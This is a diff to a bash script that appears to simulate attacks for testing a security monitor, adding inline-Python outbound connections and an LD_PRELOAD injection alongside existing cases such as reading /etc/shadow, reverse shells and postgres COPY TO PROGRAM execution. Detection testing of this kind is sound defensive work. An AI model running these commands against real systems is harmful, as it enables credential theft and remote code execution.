@@ -9,7 +9,7 @@ set -euo pipefail
 . "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/lib.sh"
 
 ATTACKS=(web-shell web-apt web-curl web-reverse-shell web-nc web-write-usr-bin web-cpu-burn web-docker-socket
-  web-read-shadow web-new-peer pg-shell pg-reverse-shell redis-write-usr-bin redis-new-peer)
+  web-read-shadow web-new-peer web-inline-python web-ld-preload pg-shell pg-reverse-shell redis-write-usr-bin redis-new-peer)
 usage() { echo "usage: $(basename "$0") NAME|list   (NAME: ${ATTACKS[*]})" >&2; exit 2; }
 [ $# -eq 1 ] || usage
 name=$1
@@ -58,6 +58,10 @@ case $name in
     report "POST /debug read /etc/shadow -> $(debug '{"action":"read","path":"/etc/shadow"}' | cut -c1-120)..." ;;
   web-new-peer)
     report "POST /debug connect ${PEER}:${PEER_PORT} hold 8s -> $(debug "{\"action\":\"connect\",\"host\":\"${PEER}\",\"port\":${PEER_PORT},\"hold\":8}")" ;;
+  web-inline-python)
+    web_exec 10 /usr/bin/python3.11 -c "import socket; socket.create_connection(('${PEER}', ${PEER_PORT}), 3).close()" ;;
+  web-ld-preload)
+    report "POST /debug exec [/usr/bin/python3.11 -V] with LD_PRELOAD=/tmp/hook.so -> $(debug '{"action":"exec","argv":["/usr/bin/python3.11","-V"],"env":{"LD_PRELOAD":"/tmp/hook.so"},"timeout":10}')" ;;
   pg-shell)
     report "psql COPY (SELECT 1) TO PROGRAM 'id' -> $(psql_ -c "COPY (SELECT 1) TO PROGRAM 'id'") (id's output goes to the server's log)" ;;
   pg-reverse-shell)
